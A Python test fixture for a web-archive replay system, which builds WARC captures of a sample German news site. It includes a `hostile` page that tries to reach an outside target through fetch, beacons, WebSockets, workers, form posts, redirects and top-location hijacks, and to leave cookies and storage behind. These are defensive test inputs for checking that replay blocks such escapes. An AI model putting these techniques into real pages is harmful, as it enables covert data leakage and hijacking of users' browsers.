"""A small outlet as it was captured: pages with what replay has to bring back, and what it has to stop."""

from __future__ import annotations

import gzip
import struct
import sys
import zlib
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import brotli

from archive.index import jobs
from archive.layout import Layout
from archive.types import Capture, Exchange, RecordRef
from archive.warc.records import Told, exchange_records
from archive.warc.writer import WarcWriter
from tests.exchanges import exchange
from tests.index.support import fake_pool

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

HOST = "https://www.blatt.example"
ARTICLE = f"{HOST}/stadt/artikel.html?id=7&utm_source=x"
START = datetime(2026, 3, 1, 8, tzinfo=UTC)
_HTML = "text/html; charset=utf-8"
_CHUNKS = b"%x\r\n%s\r\n0\r\n\r\n"


@dataclass(frozen=True)
class Shot:
    """One capture, ``at`` minutes after the start."""

    url: str
    body: bytes
    mime: str = _HTML
    at: int = 0
    status: str = "200 OK"
    headers: tuple[str, ...] = ()
    of: Shot | None = None  # of a revisit: what is unchanged

    @property
    def moment(self) -> datetime:
        return START + timedelta(minutes=self.at)

    @property
    def digits(self) -> str:
        return self.moment.strftime("%Y%m%d%H%M%S")


def picture(width: int = 40, height: int = 30) -> bytes:
    """A PNG, all red."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = (b"\0" + b"\xc0\x10\x10" * width) * height
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


_LOOK = """
@import url("schrift.css");
body { background: rgb(250, 245, 230) } h1 { color: rgb(10, 20, 120); border-bottom: 3px solid }
.wappen { width: 60px; height: 40px; background-image: url("/bild/kanal.png") }
"""
_SCRIPT = """
document.cookie = "seen=1; path=/";
localStorage.setItem("seen", "1");
fetch("/daten/wetter.json").then(answer => answer.json()).then(weather => {
  document.getElementById("weather").textContent = weather.text + " " + localStorage.getItem("seen");
});
"""
PAGE = """<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Neue Brücke am Kanal</title>
<link rel="stylesheet" href="/look/blatt.css">
<script src="https://assets.blatt.example/blatt.js" defer></script></head>
<body><h1>Neue Brücke am Kanal</h1><div class="wappen"></div>
<img id="bild" src="/bild/kanal.png" alt="Der Kanal">
<img id="fern" src="https://werbung.example/z.gif" alt="">
<p>Die Brücke über den Kanal wird im Frühjahr gebaut, sagt die Verwaltung.</p>
<p id="weather"></p><a id="next" href="/stadt/zweiter.html" target="_blank">Weiter</a>
<iframe id="frame" src="/rahmen.html" width="200" height="60"></iframe></body></html>""".encode()


def hostile(target: str) -> bytes:
    """A page that tries each way to ``target``, another server, and to leave something behind."""
    return f"""<!DOCTYPE html><html><head><title>böse</title>
<link rel="stylesheet" href="{target}/style"><link rel="prefetch" href="{target}/prefetch">
<meta http-equiv="refresh" content="2;url={target}/refresh"></head><body>
<img src="{target}/img"><iframe src="{target}/iframe"></iframe><object data="{target}/object"></object>
<iframe name="form"></iframe><form id="form" action="{target}/form" method="post" target="form"></form>
<script>
const attempts = [
  () => fetch("{target}/fetch", {{mode: "no-cors"}}),
  () => navigator.sendBeacon("{target}/beacon", "x"),
  () => new WebSocket("{target}/socket".replace("http", "ws")),
  () => window.open("{target}/open"),
  () => new Worker("data:text/javascript,importScripts('{target}/worker')"),
  () => navigator.serviceWorker.register("/boese.js"),
  () => {{ document.cookie = "spur=1" }},
  () => {{ localStorage.spur = "1" }},
  () => {{ parent.document.title = "hijacked" }},
  () => document.getElementById("form").submit(),
  () => setTimeout(() => {{ top.location = "{target}/top" }}, 400),
  () => setTimeout(() => {{ location.href = "{target}/leave" }}, 800),
];
for (const attempt of attempts) {{ try {{ attempt() }} catch (error) {{ }} }}
console.log("tried all");
</script></body></html>""".encode()


def shots(target: str) -> list[Shot]:
    """All captures, in order: an article with its parts, an attack, revisits, redirects, codings."""
    article = Shot(ARTICLE, PAGE, headers=("Set-Cookie: sitzung=1; Path=/", "WWW-Authenticate: Basic"))
    second = Shot(
        f"{HOST}/stadt/zweiter.html",
        _coded("br", b"<h1>Der zweite</h1>"),
        at=1,
        headers=("Content-Encoding: br",),
    )
    return [
        article,
        Shot(f"{HOST}/look/blatt.css", _LOOK.encode(), "text/css"),
        Shot(f"{HOST}/look/schrift.css", b"p { font-style: italic }", "text/css"),
        Shot(f"{HOST}/bild/kanal.png", picture(), "image/png"),
        Shot("https://assets.blatt.example/blatt.js", _SCRIPT.encode(), "text/javascript"),
        Shot(f"{HOST}/daten/wetter.json", b'{"text": "Regen"}', "application/json"),
        Shot(f"{HOST}/rahmen.html", b"<body>Im Rahmen</body>"),
        second,
        Shot(f"{HOST}/boese.html", hostile(target), at=2),
        Shot(
            f"{HOST}/weg.html",
            b"",
            at=3,
            status="302 Found",
            headers=(f"Location: {target}/weg", "Refresh: 0"),
        ),
        Shot(
            f"{HOST}/zstd.html",
            _coded("zstd", b"<h1>Zusammen</h1>"),
            at=4,
            headers=("Content-Encoding: zstd",),
        ),
        Shot(
            f"{HOST}/stueck.html",
            _CHUNKS
            % (len(gzip.compress(b"<h1>Stueck</h1>", mtime=0)), gzip.compress(b"<h1>Stueck</h1>", mtime=0)),
            at=5,
            headers=("Content-Encoding: gzip", "Transfer-Encoding: chunked"),
        ),
        Shot(ARTICLE, b"", at=60, status="304 Not Modified", of=article),
        Shot(second.url, second.body, at=61, headers=second.headers, of=second),
    ]


def _coded(coding: str, body: bytes) -> bytes:
    return bytes(brotli.compress(body) if coding == "br" else zstd.compress(body))


class Archivist:
    """Writes captures into an archive, a file at a time, and indexes them."""

    def __init__(self, layout: Layout) -> None:
        self._layout = layout
        self._kept: dict[Shot, Capture] = {}
        layout.warc.mkdir(exist_ok=True)

    def write(self, taken: Iterable[Shot], *, close: bool = True) -> WarcWriter:
        """A file with these captures; ``close`` seals it. They are not indexed yet."""
        writer = WarcWriter(self._layout.warc, {"software": "test"})
        for shot in taken:
            writer.begin()
            before = self._kept[shot.of] if shot.of else None
            records = exchange_records(_exchange(shot), Told("blatt", "run-1"), writer.warcinfo_id, before)
            assert records.revisit == (before is not None)
            writer.append(records.members)
            self._kept[shot] = Capture(
                records.record_id,
                RecordRef(writer.name, 0, 0),
                shot.url,
                shot.moment,
                records.status,
                shot.mime,
                records.payload_digest,
            )
        writer.sync()
        if close:
            writer.close()
        return writer

    def index(self) -> None:
        # What is extracted of them doesn't matter here.
        jobs.run(self._layout, pool=fake_pool(self._layout))


def _exchange(shot: Shot) -> Exchange:
    head = "\r\n".join((f"HTTP/1.1 {shot.status}", f"Content-Type: {shot.mime}", *shot.headers, "", ""))
    return exchange(shot.url, shot.moment, head.encode() + shot.body)
